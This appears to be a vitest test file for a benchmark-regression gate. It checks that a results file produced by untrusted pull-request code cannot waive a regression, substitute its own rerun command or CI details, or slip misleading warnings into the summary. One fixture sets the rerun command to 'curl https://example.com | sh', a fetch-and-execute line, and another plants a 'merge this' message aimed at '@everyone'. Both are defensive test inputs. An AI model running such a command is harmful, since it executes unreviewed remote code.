import { describe, expect, it } from 'vitest';
import { analyse } from '../../src/analysis/analyse.ts';
import { decideGate } from '../../src/analysis/gate.ts';
import type { Results } from '../../src/model/results/results.ts';
import { type OwnFacts, readingsOnly } from '../../src/record/claims.ts';
import { resultsOf } from '../../src/record/file/read.ts';
import { fileOf } from '../../src/record/file/write.ts';
import { renderSummary, viewOf } from '../../src/render/index.ts';
import { around, benchmark, type ResultsParts, results } from '../support/results-builder.ts';

const OWN: OwnFacts = {
  settings: results().settings,
  directions: [],
  base: { label: 'main', commit: '3'.repeat(40), tree: '4'.repeat(40), subject: '' },
  head: { label: 'topic', commit: '5'.repeat(40), tree: '6'.repeat(40), subject: '' },
  ci: { runId: 1, runNumber: 1, runAttempt: 1, url: 'https://github.com/o/r', repository: 'o/r' },
  repeat: (seed) => `tare compare main topic --seed ${seed}`,
  asked: { rounds: '30' },
  now: '2026-11-22T00:00:00.000Z',
  texts: 'shown',
};

const slower = (parts: Parameters<typeof benchmark>[1] = {}) =>
  benchmark('Parse', { base: around(100), head: around(130), ...parts });

function believed(parts: ResultsParts, own: Partial<OwnFacts> = {}): Results {
  return resultsOf(readingsOnly(fileOf(results({ benchmarks: [slower()], ...parts })), { ...OWN, ...own }));
}

const gateOf = (of: Results) => decideGate(analyse(of));

/** What a job may write to have a regression passed, that its readings show. */
const EXCUSES: Readonly<Record<string, ResultsParts>> = {
  'the same binaries': { identicalBinaries: true },
  'the same trees': { head: results().base },
  'a threshold': { settings: { threshold: 9 } },
  'observing only': { settings: { mode: 'observe' } },
  'nothing gated': { settings: { gatedMetrics: [] } },
  'another direction': { metrics: [{ unit: 'ns/op', direction: 'higher', quantity: 'time' }] },
  'a family of a million rows': { plan: { family: { rows: 1e6, confidenceLevel: 0.999999 } } },
  'a million looks': { benchmarks: [{ ...slower(), looks: 1_000_000 }] },
  'one binary of the benchmark': {
    benchmarks: [{ ...slower(), sameCode: { by: 'binary' as const }, ended: 'same-code' }],
  },
};

describe('a file that was written where code of a pull request ran', () => {
  it.each(Object.entries(EXCUSES))('excuses nothing that its readings show: %s', (_, parts) => {
    expect(gateOf(believed(parts))).toMatchObject({ exitCode: 1, reason: { kind: 'regressed' } });
  });

  it('names, orders and repeats nothing', () => {
    const [run] = believed({
      run: {
        startedAt: 'whenever',
        repeat: 'curl https://example.com | sh',
        inputs: { harness: 'process' },
        ci: { runId: 99, runNumber: 99, runAttempt: 99, url: 'https://example.com', repository: 'x/y' },
      },
    }).runs;
    expect(run).toMatchObject({
      startedAt: OWN.now,
      repeat: `tare compare main topic --seed ${results().runs[0]?.seed}`,
      inputs: { rounds: '30' },
      ci: OWN.ci,
    });
    const whole = believed({ toolVersion: '<b>', warnings: [] });
    expect([whole.toolVersion, whole.base, whole.head, whole.plan]).toEqual(['unknown', OWN.base, OWN.head, undefined]);
  });

  const warnings = [
    { code: 'slice-failed', message: 'All is well, merge this', subject: '@everyone' },
    { code: 'settings-of-base', message: 'judged by its own' },
    { code: 'made-up', message: 'x' },
    { code: 'partial-run', message: 'x'.repeat(2000) },
  ];

  it('is quoted, and cut, where it doubts itself', () => {
    const own = believed({ warnings, benchmarks: [{ ...slower(), warnings }] });
    expect(own.warnings).toEqual([
      {
        code: 'slice-failed',
        message: 'the job that measured noted of itself',
        subject: 'All is well, merge this: @everyone',
      },
      { code: 'partial-run', message: 'the job that measured noted of itself', subject: `${'x'.repeat(300)}…` },
    ]);
    expect(own.benchmarks[0]?.warnings).toEqual(own.warnings);
    const analysis = analyse(own);
    expect(renderSummary(viewOf(analysis, decideGate(analysis)))).toContain('`All is well, merge this: @everyone`');
  });

  it('says nothing in words of its own where it is a stranger’s', () => {
    const own = believed({ warnings }, { texts: 'left out' });
    expect(own.warnings.map(({ code, subject }) => [code, subject])).toEqual([
      ['slice-failed', 'slice-failed'],
      ['partial-run', 'partial-run'],
    ]);
  });

  it('says that no code changed where it has no benchmark, and only there', () => {
    const run = { noCodeChanged: { files: 2 } };
    expect(analyse(believed({ benchmarks: [], run })).verdict).toBe('same-code');
    expect(gateOf(believed({ run }))).toMatchObject({ exitCode: 1 });
  });

  it('says why there are no readings', () => {
    const same = benchmark('Same', { base: [], head: [], ended: 'same-code' });
    const analysis = analyse(believed({ benchmarks: [{ ...same, sameCode: { by: 'binary' as const } }] }));
    expect(analysis.benchmarks[0]?.status).toBe('same-code');
    expect(analysis.counts.sameCode).toBe(1);
  });
});
